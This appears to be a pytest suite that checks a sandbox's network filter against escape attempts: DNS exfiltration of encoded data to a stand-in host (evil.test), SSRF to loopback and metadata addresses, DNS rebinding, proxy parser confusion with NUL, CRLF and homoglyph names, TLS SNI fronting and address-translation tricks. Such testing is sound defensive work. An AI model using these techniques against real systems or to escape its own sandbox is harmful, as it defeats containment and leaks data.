"""E98-E107: what a workload with some network must not reach. Each attempt has a control that
succeeds: the same request outside, or for a host that is allowed."""

import json
import socket
import subprocess
import threading

import pytest

import sessions

from test_filtered import CURL, PLAIN, REFUSED, allow, reached, resolve

pytestmark = pytest.mark.escape


@pytest.fixture
def host_server(net):
    """A service on the machine itself, on every address."""
    server = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)

    def serve():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nopen")
            connection.close()

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1]
    server.shutdown(socket.SHUT_RDWR)
    server.close()


ELSEWHERE = ["private.test", "metadata.test", "metadata.google.internal", "ecs.test", "ec2v6.test",
             "alibaba.test", "gateway.test"]
GUARDED = [*ELSEWHERE, "loopback.test", "loopback6.test", "mapped.test", "own.test"]


@pytest.mark.parametrize("name", GUARDED, ids=lambda name: "E98.E99." + name)
@pytest.mark.parametrize("curl", [PLAIN, CURL], ids=["led", "proxy"])
def test_allowed_name_that_leads_inside(net, host_server, name, curl):
    port = 80 if name in ELSEWHERE else host_server
    control = net.plain([*PLAIN, f"http://{name}:{port}/"])
    assert control.exit == 0, f"control: {control}"
    result = net.run([*curl, "-f", f"http://{name}:{port}/"], options=allow(name))
    assert result.exit in (7, 22, 55, 56), result  # reset before or after the first byte
    assert "open" not in result.stdout


ADDRESSES = ["127.0.0.1", "[::1]", "203.0.113.1", "10.1.2.3:80", "169.254.169.254:80",
             "[::ffff:127.0.0.1]"]


def test_literal_address_by_proxy(net, host_server):
    """E97, E98: the proxy runs outside; its loopback is the host's."""
    where = [address if address.endswith(":80") else f"{address}:{host_server}"
             for address in ADDRESSES]
    for address in where:
        assert net.plain([*PLAIN, f"http://{address}/"]).exit == 0, f"control: {address}"
    script = """
for address in "$@"; do
  for proxy in http://127.0.0.1:61080 socks5h://127.0.0.1:61080; do
    for more in -s -p; do
      curl -s -m 10 --noproxy '' -x $proxy $more -f "http://$address/"; echo $? $proxy $more $address
    done
  done
done
"""
    result = net.run(["sh", "-c", script, "sh", *where], options=allow("good.test"))
    lines = result.stdout.splitlines()
    assert len(lines) == 4 * len(where), result
    assert not [line for line in lines if line.split()[0] not in ("22", "56", "97")], result


def test_some_addresses_are_good(net):
    said = reached(net.run([*PLAIN, "http://mixed.test/"], options=allow("mixed.test")))
    assert said["address"] == "203.0.113.10"


def test_rebinding(net, host_server):
    """E98: a name that is good when it is looked up and bad when it is used."""
    script = (f"getent hosts rebind.test; sleep 3.1; curl -sS -m 5 -f --noproxy '*' "
              f"http://rebind.test:{host_server}/")
    result = net.run(["sh", "-c", script], options=allow("rebind.test"))
    assert "open" not in result.stdout and result.exit in REFUSED, result


def test_full_mode_is_guarded_too(net, host_server):
    result = net.run([*PLAIN, f"http://own.test:{host_server}/"], options=["--allow-network"])
    assert result.exit in REFUSED and "open" not in result.stdout, result
    assert reached(net.run([*PLAIN, "http://other.test/"], options=["--allow-network"]))


# ---- names that carry data ----


@pytest.mark.parametrize("attempt", [
    resolve("c2VjcmV0.evil.test"),
    ["dig", "+tries=1", "+time=2", "c2VjcmV0.evil.test"],
    ["dig", "+tries=1", "+time=2", "+tcp", "c2VjcmV0.evil.test", "@203.0.113.53"],
    ["dig", "+tries=1", "+time=2", "c2VjcmV0.evil.test", "TXT", "@203.0.113.53"],
    [*CURL, "http://c2VjcmV0.evil.test/"],
    [*CURL, "-p", "http://c2VjcmV0.evil.test/"],
    [*CURL, "-x", "socks5h://127.0.0.1:61080", "http://c2VjcmV0.evil.test/"]],
    ids=["E100.getaddrinfo", "E100.udp", "E100.tcp", "E100.txt", "E100.proxy", "E100.connect",
         "E100.socks"])
def test_denied_name_is_never_looked_up(net, attempt):
    net.internet.queries.clear()
    net.plain(["getent", "hosts", "control.evil.test"])
    assert sessions.eventually(lambda: net.internet.was_asked("control.evil.test")), \
        "control: the name server hears us"
    net.run(attempt, options=allow("good.test"))
    assert not net.internet.was_asked("c2vjcmv0.evil.test"), net.internet.queries


# ---- proxies ----


def proxy_answers(net, texts, options, patience=10):
    """Raw bytes to the proxy from inside, one connection for each, all at once; what it answers until
    it closes, or until there is no more patience with one that wants more."""
    script = """
import json, socket, time
sockets = []
for text in json.load(open("texts")):
    s = socket.create_connection(("127.0.0.1", 61080), 10)
    sockets.append(s)
    try: s.sendall(bytes.fromhex(text))
    except OSError: pass
end = time.monotonic() + PATIENCE
for s in sockets:
    out = b""
    try:
        while True:
            s.settimeout(max(end - time.monotonic(), 0.01))
            if not (part := s.recv(65536)): break
            out += part
    except OSError as error: out += repr(error).encode()
    print(json.dumps(out.decode("latin-1")))
""".replace("PATIENCE", str(patience))
    net.identity.file(net.path("texts"), json.dumps([text.hex() for text in texts]))
    result = net.run(["python3", "-c", script], options=options)
    answers = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(answers) == len(texts), result
    return answers


def proxy_bytes(net, data, options):
    return proxy_answers(net, [data], options)[0]


BAD_NAMES = [b"secret.test\0.good.test", b"secret.test\0", b"secret.test .good.test",
             b"secret.test%00.good.test", b"secret.test\r\nHost: good.test", b"good.test@secret.test",
             b"secret.test/.good.test", b"secret.test#.good.test", b"s\xc3\xa9cret.test",
             b"p\xd0\xb0ypal.good.test", b"a" * 64 + b".good.test", b"secret.test?.good.test",
             b"_x.good.test", b"good.test:80@secret.test"]


def test_names_that_parsers_disagree_on(net):
    """E102: by SOCKS, as an absolute address and by CONNECT; each in a connection of its own."""
    attempts = []
    for name in BAD_NAMES:
        attempts.append(b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x00\x50"
                        b"GET / HTTP/1.0\r\n\r\n")
        attempts.append(b"GET http://" + name + b"/ HTTP/1.1\r\n\r\n")
        attempts.append(b"CONNECT " + name + b":80 HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n")
    good = b"GET http://good.test/ HTTP/1.1\r\nConnection: close\r\n\r\n"
    *answers, control = proxy_answers(net, [*attempts, good], allow("good.test", "*.good.test"))
    assert "203.0.113.10" in control
    for attempt, answer in zip(attempts, answers):
        assert " 200 " not in answer and "203.0.113" not in answer, (attempt, answer)


@pytest.mark.parametrize("name", [b"GOOD.test", b"good.test.", b"GOOD.TEST."])
@pytest.mark.control
def test_same_name_written_otherwise(net, name):
    request = b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x00\x50"
    answer = proxy_bytes(net, request + b"GET / HTTP/1.0\r\n\r\n", allow("good.test"))
    assert "203.0.113.10" in answer, answer


PORTS = ["0", "65536", "65617", "99999", "-1", "+80", "80x", "0x50", "", " 80", "80 "]


def test_ports_that_are_none(net):
    """65617 is 80 for who counts in 16 bits."""
    attempts = [(b"CONNECT good.test:%s HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n") % port.encode()
                for port in PORTS]
    attempts += [b"GET http://good.test:%s/ HTTP/1.1\r\nConnection: close\r\n\r\n" % port.encode()
                 for port in PORTS if port]
    attempts.append(b"\x05\x01\x00\x05\x01\x00\x03\x09good.test\x00\x00GET / HTTP/1.0\r\n\r\n")
    good = b"GET http://good.test:80/ HTTP/1.1\r\nConnection: close\r\n\r\n"
    *answers, control = proxy_answers(net, [*attempts, good], allow("good.test"))
    assert "203.0.113.10" in control
    for attempt, answer in zip(attempts, answers):
        assert " 200 " not in answer and "203.0.113" not in answer, (attempt, answer)


RIGHT = b"\x05\x01\x00\x05\x01\x00\x03\x09good.test\x00\x50"

# Every value of every byte, each in a connection of its own, some hundred at a time; who has said
# all it had to say, says so. Prints those that were answered with more than a refusal.
EVERY_BYTE = f"""
import socket
right = {RIGHT!r}
def variants():
    for at in range(len(right)):
        for value in range(256):
            yield at, value, right[:at] + bytes([value]) + right[at + 1:]
def heard(client):
    out = b""
    try:
        while part := client.recv(65536): out += part
    except ConnectionError: pass
    client.close()
    return out
def finish(batch):
    for at, value, client in batch:
        out = heard(client)
        if b"203.0.113" in out or b"\\x05\\x00\\x05\\x00" in out: print(at, value)
batch = []
for at, value, text in variants():
    client = socket.create_connection(("127.0.0.1", 61080), 20)
    client.sendall(text + b"GET / HTTP/1.0\\r\\n\\r\\n")
    try: client.shutdown(socket.SHUT_WR)
    except OSError: pass # refused already
    batch.append((at, value, client))
    if len(batch) == 200:
        finish(batch)
        batch = []
finish(batch)
"""


def test_socks_with_every_wrong_byte(net):
    """Of the greeting, the request, the name and the port. Only what says the same passes: the right
    value of each byte, and a letter of the name in upper case; and nobody else is connected."""
    result = net.run(["python3", "-c", EVERY_BYTE], options=[*allow("good.test:80"), "--json"])
    told = json.loads(result.stdout)
    passed = [tuple(map(int, line.split())) for line in told["stdout"].splitlines()]
    same = {(at, value) for at, byte in enumerate(RIGHT) for value in range(256)
            if value == byte or (8 <= at < 17 and chr(value).lower() == chr(byte))}
    assert len(same) == len(RIGHT) + 8, "control"
    assert set(passed) == same, (set(passed) ^ same, told["stderr"])
    assert told["network"]["connections"] == len(same), told["network"]


def test_upgraded_connection(net):
    """E107: a WebSocket is one connection to one host; it begins as a request that is decided."""
    hello = (b"GET http://%s/socket HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade\r\n"
             b"Upgrade: websocket\r\n\r\n")
    inside = b"GET http://secret.test/ HTTP/1.1\r\nHost: secret.test\r\n\r\n"
    fine, refused = proxy_answers(net, [hello % b"good.test" + inside, hello % b"secret.test"],
                                  allow("good.test"), patience=1)
    assert " 101 " in fine and inside.decode() in fine, fine
    assert " 403 " in refused and " 101 " not in refused, refused


def test_plain_http_by_proxy(net):
    """E103: only CONNECT was filtered."""
    result = net.run([*CURL, "-f", "http://secret.test/"], options=allow("good.test"))
    assert result.exit == 22, result


def test_relayed_connect(net):
    """E104: a listener inside that passes bytes on to the proxy is no other proxy."""
    script = """
import socket, threading
def pass_on(a, b):
    while part := a.recv(65536): b.sendall(part)
    b.shutdown(socket.SHUT_WR)
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
inner, _ = server.accept()
proxy = socket.create_connection(("127.0.0.1", 61080))
threading.Thread(target=pass_on, args=(inner, proxy), daemon=True).start()
client.sendall(b"CONNECT secret.test:80 HTTP/1.1\\r\\n\\r\\n")
print(proxy.recv(1000))
"""
    result = net.run(["python3", "-c", script], options=allow("good.test"))
    assert "403" in result.stdout and "200" not in result.stdout, result


def test_second_request_on_one_connection(net):
    """Each request is decided for itself."""
    text = (b"GET http://good.test/a HTTP/1.1\r\nHost: good.test\r\n\r\n"
            b"GET http://other.test/b HTTP/1.1\r\nHost: x\r\n\r\n"
            b"GET http://secret.test/c HTTP/1.1\r\nHost: good.test\r\n\r\n")
    answer = proxy_bytes(net, text, allow("good.test", "other.test"))
    assert answer.count(" 200 OK") == 2 and answer.count(" 403 ") == 1, answer
    assert '"path": "/a"' in answer and '"path": "/c"' not in answer


def test_host_header_is_the_address(net):
    """E101: behind one address live many hosts."""
    said = reached(net.run([*CURL, "-H", "Host: secret.test", "http://good.test/"],
                           options=allow("good.test")))
    assert said["host"] == "good.test"


@pytest.mark.parametrize("curl", [PLAIN, CURL, [*CURL, "-x", "socks5h://127.0.0.1:61080"]],
                         ids=["E101.led", "E101.proxy", "E101.socks"])
def test_tls_name_is_the_address(net, curl):
    url = "https://good.test/"
    fine = net.run([*curl, "-k", url], options=allow("good.test"))
    assert json.loads(fine.stdout)["host"] == "good.test", f"control: {fine}"
    fronted = net.run([*curl, "-k", "--connect-to", "secret.test::good.test:443",
                       "https://secret.test/"], options=[*allow("good.test"), "--json"])
    told = json.loads(fronted.stdout)
    assert told["exitCode"] == 35, fronted
    assert "TLS to secret.test inside a connection to good.test" in str(told["denials"])


def vector(size, content):
    return len(content).to_bytes(size, "big") + content


def client_hello(name, early_data=False, version=b"\3\1"):
    names = vector(2, b"\0" + vector(2, name))
    extensions = b"\0\0" + vector(2, names) + (b"\0\x2a\0\0" if early_data else b"")
    body = (b"\3\3" + bytes(32) + vector(1, b"") + vector(2, b"\x13\1") + vector(1, b"\0")
            + vector(2, extensions))
    return b"\x16" + version + vector(2, b"\1" + vector(3, body))


CIPHERS, WARNING, DATA = b"\x14\3\3\0\1\1", b"\x15\3\3\0\2\1\x5a", b"\x17\3\3\0\4data"
KEY_EXCHANGE, FINISHED = b"\x16\3\3\0\6\x10\0\0\2ab", b"\x16\3\3\0\6\1\xff1234"
GOOD, OTHER = client_hello(b"good.test"), client_hello(b"other.test")
EARLY = client_hello(b"good.test", early_data=True)
# What a client sends, each part when the one before has come back, and whether all of it passes.
# Real servers take a name from most of those that must not: GnuTLS skips a change of ciphers, also
# in the middle of a hello, OpenSSL an empty one, Java warnings, empty records and all versions; and
# each may answer the first hello with a request for another.
FLIGHTS = {
    "hello": ([GOOD, CIPHERS + DATA, OTHER], True),
    "hello again": ([GOOD, CIPHERS + GOOD, DATA], True),
    "early data": ([EARLY + CIPHERS + DATA, DATA * 2000, GOOD, DATA], True),
    "old TLS": ([GOOD, KEY_EXCHANGE + CIPHERS + FINISHED, DATA], True),
    "old TLS goes on": ([GOOD, CIPHERS + FINISHED, DATA], True),
    "no TLS": ([b"\x14\1\0\1\x85\xa6", OTHER], True),
    "no TLS either": ([b"\x16\1\0\1\x85\xa6", OTHER], True),
    "other": ([OTHER], False),
    "second": ([GOOD, OTHER], False),
    "second at once": ([GOOD + OTHER], False),
    "second behind ciphers": ([GOOD, CIPHERS + OTHER], False),
    "second behind a warning": ([GOOD, WARNING, OTHER], False),
    "second behind early data": ([EARLY + DATA, DATA * 2000, OTHER], False),
    "third": ([GOOD, GOOD, OTHER], False),
    "second, byte by byte": ([GOOD, *(OTHER[i:i + 1] for i in range(len(OTHER)))], False),
    "in the same record": ([GOOD[:3] + vector(2, GOOD[5:] + OTHER[5:])], False),
    "behind ciphers": ([CIPHERS + OTHER], False),
    "behind a warning": ([WARNING + OTHER], False),
    "behind data": ([DATA + OTHER], False),
    "behind empty ciphers": ([b"\x14\3\3\0\0" + OTHER], False),
    "behind an empty part": ([b"\x16\0\0\0\0" + OTHER], False),
    "second behind an empty part": ([GOOD, b"\x16\3\3\0\0" + OTHER], False),
    "around ciphers": ([b"\x16\3\3\0\1\1" + CIPHERS + OTHER[:3] + vector(2, OTHER[6:])], False),
    **{f"version {version}": ([client_hello(b"other.test", version=version)], False)
       for version in (b"\2\1", b"\4\1", b"\0\0")},
}

# Bytes of a hello that is being looked at do not come back yet.
FLY = """
import json, socket, sys
for name, parts in json.loads(sys.argv[1]).items():
    client = socket.create_connection(("good.test", 7))
    client.settimeout(5 if len(parts) < 10 else 0.005)
    passed = True
    for part in map(bytes.fromhex, parts):
        back = 0
        try:
            client.sendall(part)
            while back < len(part):
                got = len(client.recv(65536))
                if got == 0: break
                back += got
        except TimeoutError: pass
        except ConnectionError: pass
        passed = passed and back == len(part)
    print(json.dumps([name, passed]))
"""


def test_every_tls_name_is_the_address(net):
    """E101: some servers skip what comes first, and many take the name of a second hello."""
    flights = json.dumps({name: [part.hex() for part in parts]
                          for name, (parts, _) in FLIGHTS.items()})
    result = net.run(["python3", "-c", FLY, flights], options=[*allow("good.test"), "--json"])
    told = json.loads(result.stdout)
    passed = dict(json.loads(line) for line in told["stdout"].splitlines())
    assert passed == {name: passes for name, (_, passes) in FLIGHTS.items()}, result
    denied = sum(not passes for _, passes in FLIGHTS.values())
    assert told["network"]["denied"] == denied, told["network"]


@pytest.mark.parametrize("policy", ["{mode: full, deny: [other.test]}",
                                    "{mode: filtered, allow: ['*'], deny: ['*.test:443']}"])
def test_denied_name_at_a_known_address(net, policy):
    """It cannot be looked up, but who knows the address needs no name server."""
    path = net.identity.file(net.home("deny.yaml"), f"version: 1\nnetwork: {policy}\n")

    def by_address(name, policy=()):
        return net.run([*PLAIN, "-k", "--resolve", f"{name}:443:203.0.113.11", f"https://{name}/"],
                       options=policy or ["--allow-network"])

    assert reached(by_address("other.test"))["host"] == "other.test", "control"
    assert reached(by_address("else.example", ["--policy", path]))["host"] == "else.example"
    refused = by_address("other.test", ["--policy", path])
    assert refused.exit == 35, refused


@pytest.mark.works
def test_second_hello_of_real_programs(net):
    """The server on port 444 asks for one."""
    options = allow("good.test")
    assert reached(net.run([*PLAIN, "-k", "https://good.test:444/"], options=options))
    script = ("import socket, ssl\n"
              "context = ssl.create_default_context(); context.check_hostname = False\n"
              "context.verify_mode = ssl.CERT_NONE\n"
              "context.maximum_version = ssl.TLSVersion.TLSv1_2\n"
              "session = None\n"
              "for _ in range(5):\n"
              "  raw = socket.create_connection(('good.test', 443))\n"
              "  client = context.wrap_socket(raw, server_hostname='good.test', session=session)\n"
              "  client.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
              "  print(client.session_reused, client.recv(15))\n"
              "  session = client.session\n")
    result = net.run(["python3", "-c", script], options=options)
    assert result.stdout.count("True b'HTTP/1.1 200 OK'") == 4, result


def test_raw_connection_to_an_address(net):
    """E105: ignoring the variables and the names."""
    assert net.plain([*PLAIN, "http://203.0.113.11/"]).exit == 0
    result = net.run([*PLAIN, "http://203.0.113.11/"], options=allow("good.test"))
    assert result.exit in REFUSED, result


def test_empty_list(net, tmp_path):
    """E106: CVE-2025-66479."""
    policy = net.identity.file(net.home("empty.yaml"),
                               "version: 1\nnetwork: {mode: filtered, allow: []}\n")
    for curl in (PLAIN, [*CURL, "-f"]):
        result = net.run([*curl, "http://good.test/"], options=["--policy", policy])
        assert result.exit in (6, 22), result


def test_redirect(net):
    """E107: the next address is a new question."""
    result = net.run([*CURL, "-L", "-f", "http://good.test/redirect/secret.test"],
                     options=allow("good.test"))
    assert result.exit == 22, result
    said = reached(net.run([*CURL, "-L", "http://good.test/redirect/other.test"],
                           options=allow("good.test", "other.test")))
    assert said["address"] == "203.0.113.11"


def test_datagrams(net):
    """E107: HTTP/3 and the like."""
    script = ("import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              "s.settimeout(2); s.connect((sys.argv[1], 7)); s.send(b'x')\n"
              "try: print(s.recv(100))\n"
              "except OSError as e: print(type(e).__name__)")
    control = net.plain(["python3", "-c", script, "203.0.113.10"])
    assert control.stdout.strip() == "b'echo x'", control
    for host in ("203.0.113.10", "good.test"):
        result = net.run(["python3", "-c", script, host], options=allow("good.test", "203.0.113.10"))
        assert result.stdout.strip() == "ConnectionRefusedError", result


def test_refused_datagrams_are_counted(net):
    """Also those of IPv6, and in the audit log. The control: one that is taken is not counted."""
    script = ("import socket\n"
              "for family, host, times in ((socket.AF_INET, '203.0.113.10', 3),\n"
              "                            (socket.AF_INET6, '2001:db8:1::10', 2)):\n"
              "    for _ in range(times):\n"
              "        socket.socket(family, socket.SOCK_DGRAM).sendto(b'x', (host, 443))\n")
    for sent, counted in ((script, 5), ("import socket; socket.getaddrinfo('good.test', 80)", 0)):
        result = net.run(["python3", "-c", sent], options=[*allow("good.test"), "--json"])
        told = json.loads(result.stdout)
        assert (told["exitCode"], told["network"]["refused_datagrams"]) == (0, counted), told
        audit = net.plain([net.world.command, "audit", "--json", "--event", "net.summary", told["sid"]])
        assert json.loads(audit.stdout)["refused_datagrams"] == counted, audit


def test_deny_before_allow(net):
    policy = net.identity.file(net.home("deny.yaml"), "version: 1\nnetwork:\n  mode: full\n"
                               "  allow: [good.test]\n  deny: [good.test, '*.good.test', 203.0.113.11]\n")
    for host in ("good.test", "www.good.test"):
        assert net.run([*PLAIN, f"http://{host}/"], options=["--policy", policy]).exit == 6
    # A name whose address is denied.
    result = net.run([*PLAIN, "http://other.test/"], options=["--policy", policy])
    assert result.exit in REFUSED, result


# The same server, by ways that lead to its IPv4 address where there is a translator.
CARRIERS = ["http://[64:ff9b::203.0.113.10]/", "http://[2002:cb00:710a::10]/", "http://carrier.test/"]
STATUS = "for url; do curl -s -m 5 -o /dev/null --noproxy '*' $url; echo $? $url; done"


def statuses(net, urls, policy):
    """What curl says to each of them in one session: 0 is reached."""
    path = net.identity.file(net.home("policy.yaml"), "version: 1\nnetwork: " + policy + "\n")
    result = net.run(["sh", "-c", STATUS, "sh", *urls], options=["--policy", path])
    return {url: int(status) for status, url in map(str.split, result.stdout.splitlines())}


@pytest.mark.parametrize("rule", ["203.0.113.10", "203.0.113.8/30", "::ffff:203.0.113.10"])
def test_denied_address_in_other_forms(net, rule):
    urls = ["http://203.0.113.10/", "http://[::ffff:203.0.113.10]/", "http://good.test/", *CARRIERS]
    assert set(statuses(net, urls, "{mode: full}").values()) == {0}, "control"
    said = statuses(net, [*urls, "http://six.test/"], f"{{mode: full, deny: ['{rule}']}}")
    assert said.pop("http://six.test/") == 0, "control"
    assert 0 not in said.values(), said


@pytest.fixture
def more_own(net):
    """Addresses that are on no interface and the machine's all the same."""
    routes = [("-6", "2001:db8:9::/64"), ("-4", "192.0.2.0/24"), ("-4", "198.51.100.0/24")]
    for family, network in routes:
        source = ["src", "203.0.113.1"] if network.startswith("198") else []
        subprocess.run(["ip", family, "route", "add", "local", network, "dev", "lo", *source],
                       check=True)
    yield ["[2001:db8:9::5]", "192.0.2.7", "198.51.100.7"]
    for family, network in routes:
        subprocess.run(["ip", family, "route", "del", "local", network, "dev", "lo"], check=True)


def test_own_addresses_on_no_interface(net, host_server, more_own):
    urls = [f"http://{host}:{host_server}/" for host in more_own]
    for url in urls:
        assert net.plain([*PLAIN, url]).exit == 0, f"control: {url}"
    said = statuses(net, [*urls, "http://203.0.113.10/"], "{mode: full}")
    assert said.pop("http://203.0.113.10/") == 0, "control"
    assert 0 not in said.values(), said
    listed = json.dumps([url.split("//")[1][:-1] for url in urls])
    assert set(statuses(net, urls, f"{{mode: filtered, allow: {listed}}}").values()) == {0}


def test_own_address_in_another_form(net):
    """Somebody translates it, and what comes out is for this machine."""
    urls = ["http://[64:ff9b::203.0.113.1]/", "http://own-carrier.test/"]
    for url in urls[:1]:
        assert net.plain([*PLAIN, url]).exit == 0, f"control: {url}"
    said = statuses(net, [*urls, *CARRIERS], "{mode: full}")
    assert [said[url] for url in CARRIERS] == [0] * len(CARRIERS), f"control: {said}"
    assert 0 not in [said[url] for url in urls], said
